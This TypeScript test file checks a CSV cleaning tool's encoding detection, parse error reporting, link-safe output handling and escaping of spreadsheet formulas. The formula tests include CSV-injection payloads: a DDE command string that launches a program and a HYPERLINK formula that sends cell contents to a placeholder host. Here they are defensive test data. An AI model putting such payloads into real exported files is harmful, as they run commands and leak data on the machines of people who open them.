/**
 * Files that are not what they seem, and files that must be safe to open: the CLI decodes what Excel and
 * Sheets write (GBK/GB18030, UTF-16, a Western code page) or refuses, never writes a U+FFFD that was not
 * in the file, names the line of a quote that never closes, says when rows were padded, refuses to
 * write over its input under another name, and writes no cell that a spreadsheet would run as a formula.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, linkSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { decodeCsvBytes } from '../../src/cli/decode';
import { formulaSafe, parseCsvChecked } from '../../src/cli/csv';

const CLI = join(__dirname, '..', '..', 'dist', 'cli.js');

function run(args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '', LANG: 'C', ...env } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const ZH = '客户名称,联系人,电话,阶段\n上海某某科技有限公司,张伟,13800138000,成交\n北京示例,李娜,13900139000,线索\n';
const WEST = 'Name,City,Note\nMüller,Zürich,“quoted”\nJosé,São Paulo,5 €\n';

let tmp = '';
beforeAll(() => {
  if (!existsSync(CLI)) throw new Error('dist/cli.js is missing: run `node build.mjs` first');
  tmp = mkdtempSync(join(tmpdir(), 'clientflow-files-'));
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function file(name: string, bytes: Buffer): string {
  const p = join(tmp, name);
  writeFileSync(p, bytes);
  return p;
}

describe('decodeCsvBytes', () => {
  it.each([
    ['UTF-8', Buffer.from(ZH, 'utf8'), ZH, 'UTF-8'],
    ['UTF-8 with BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(ZH)]), ZH, 'UTF-8 (BOM)'],
    ['GBK', iconv.encode(ZH, 'gbk'), ZH, 'GB18030'],
    ['GB18030', iconv.encode(ZH + '𠀀,x,1,y\n', 'gb18030'), ZH + '𠀀,x,1,y\n', 'GB18030'],
    ['mostly-ASCII GBK', iconv.encode('Name,Phone\n' + 'Acme Inc,555-0101\n'.repeat(40) + '王芳,13800138000\n', 'gbk'), 'Name,Phone\n' + 'Acme Inc,555-0101\n'.repeat(40) + '王芳,13800138000\n', 'GB18030'],
    ['UTF-16LE with BOM', iconv.encode(ZH, 'utf-16le', { addBOM: true }), ZH, 'UTF-16LE'],
    ['UTF-16BE with BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(ZH, 'utf-16be')]), ZH, 'UTF-16BE'],
    ['UTF-16LE without BOM', iconv.encode(WEST, 'utf-16le'), WEST, 'UTF-16LE'],
    ['windows-1252', iconv.encode(WEST, 'windows-1252'), WEST, 'windows-1252'],
  ])('%s', (_name, bytes, text, encoding) => {
    expect(decodeCsvBytes(bytes)).toEqual({ ok: true, text, encoding });
  });

  it('never invents a replacement character: undecodable bytes are refused', () => {
    // 0x81 then a line break: not UTF-8, not GB18030 (a lead byte without its trail), undefined in windows-1252.
    const r = decodeCsvBytes(Buffer.from([0x4e, 0x61, 0x6d, 0x65, 0x0a, 0x41, 0x81, 0x0a]));
    expect(r).toEqual({ ok: false, reason: 'unknownEncoding' });
  });

  it('a replacement character that is in a UTF-8 file is kept', () => {
    expect(decodeCsvBytes(Buffer.from('Name\nA\ufffdB\n'))).toEqual({ ok: true, text: 'Name\nA\ufffdB\n', encoding: 'UTF-8' });
  });

  it('NUL bytes that are not UTF-16 are binary', () => {
    expect(decodeCsvBytes(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00]))).toEqual({ ok: false, reason: 'binary' });
  });
});

describe('parseCsvChecked', () => {
  it('names the line of a quote that never closes', () => {
    expect(parseCsvChecked('a,b\n1,2\n3,"unterminated\n5,6\n').problems).toEqual([{ kind: 'unterminatedQuote', line: 3 }]);
  });
  it('names rows with another number of values than most rows, counting lines inside quoted values', () => {
    const r = parseCsvChecked('Name,Note\nAnn,"two\nlines"\nBob\nCy,x,extra\nDee,y\n');
    expect(r.problems).toEqual([
      { kind: 'ragged', line: 4, fields: 1, usual: 2 },
      { kind: 'ragged', line: 5, fields: 3, usual: 2 },
    ]);
    expect(r.rows.every((row) => row.length === 3)).toBe(true);
  });
});

describe('formulaSafe', () => {
  it.each([
    ['=HYPERLINK("http://x?"&B3)', `'=HYPERLINK("http://x?"&B3)`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['+8613800138000', '+8613800138000'],
    ['+8613800138000 ext. 12', '+8613800138000 ext. 12'],
    ['-5', '-5'],
    ['-1200.50', '-1200.50'],
    ['Zhang Wei', 'Zhang Wei'],
    ['', ''],
  ])('%j → %j', (cell, safe) => expect(formulaSafe(cell)).toBe(safe));
});

describe('clientflow on such files', () => {
  it('validates a GBK file and reports the encoding', () => {
    const r = run(['validate', file('gbk.csv', iconv.encode(ZH, 'gbk'))]);
    expect(r.code).toBe(0);
    const out = JSON.parse(r.stdout) as { columns: Array<{ header: string }>; encoding: string };
    expect(out.encoding).toBe('GB18030');
    expect(out.columns.map((c) => c.header)).toEqual(['客户名称', '联系人', '电话', '阶段']);
  });

  it('cleans a UTF-16 file from Excel into UTF-8 with the same values', () => {
    const input = file('u16.csv', iconv.encode('Name,Email\n张伟, ZW@Example.COM \n', 'utf-16le', { addBOM: true }));
    const out = join(tmp, 'u16-out.csv');
    const r = run(['clean', input, '--out', out]);
    expect(r.code).toBe(0);
    expect(readFileSync(out, 'utf8')).toBe('Name,Email\n张伟,zw@example.com\n');
  });

  it('refuses a file no encoding explains, writing nothing', () => {
    const out = join(tmp, 'never.csv');
    const r = run(['clean', file('bad.csv', Buffer.from([0x4e, 0x0a, 0x81, 0x8d, 0x8f, 0x90, 0x9d, 0x0a])), '--out', out]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cannot tell how .* is encoded/);
    expect(existsSync(out)).toBe(false);
  });

  it('refuses an unterminated quote with its line, in English and Chinese', () => {
    const f = file('quote.csv', Buffer.from('Name,Email\nAnn,a@b.co\n"Bob,b@c.co\nCy,c@d.co\n'));
    const en = run(['validate', f]);
    expect(en.code).toBe(2);
    expect(en.stderr).toContain('line 3: a quoted value is never closed');
    const zh = run(['validate', f], { LANG: 'zh_CN.UTF-8' });
    expect(zh.stderr).toContain('第 3 行');
  });

  it('says which rows were padded', () => {
    const r = run(['validate', file('ragged2.csv', Buffer.from('Name,Email\nAnn,a@b.co\nBob\nCy,c@d.co\n'))]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('line 3 (1)');
  });

  it('refuses --out that is the input under another name (hard link, symbolic link)', () => {
    const input = file('same.csv', Buffer.from('Name,Email\nAnn, A@B.CO\n'));
    const hard = join(tmp, 'hard.csv');
    const soft = join(tmp, 'soft.csv');
    linkSync(input, hard);
    symlinkSync(input, soft);
    for (const out of [hard, soft, join(tmp, '.', 'same.csv')]) {
      const r = run(['clean', input, '--out', out]);
      expect([out, r.code]).toEqual([out, 2]);
    }
    expect(readFileSync(input, 'utf8')).toBe('Name,Email\nAnn, A@B.CO\n');
  });

  it('writes no cell that opens as a formula', () => {
    const input = file('inject.csv', Buffer.from('Name,Phone,Note\n=HYPERLINK("http://x?"&B3),+86 138 0013 8000,"=cmd|\' /C calc\'!A0"\n@SUM(1),-5,+1+1\n'));
    const out = join(tmp, 'inject-out.csv');
    expect(run(['clean', input, '--out', out]).code).toBe(0);
    const cells = parseCsvChecked(readFileSync(out, 'utf8')).rows.flat();
    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:\.\d+)?$/.test(c));
    expect(formulas).toEqual([]);
    expect(cells).toContain('+8613800138000');
    expect(cells).toContain(`'=HYPERLINK("http://x?"&B3)`);
  });
});
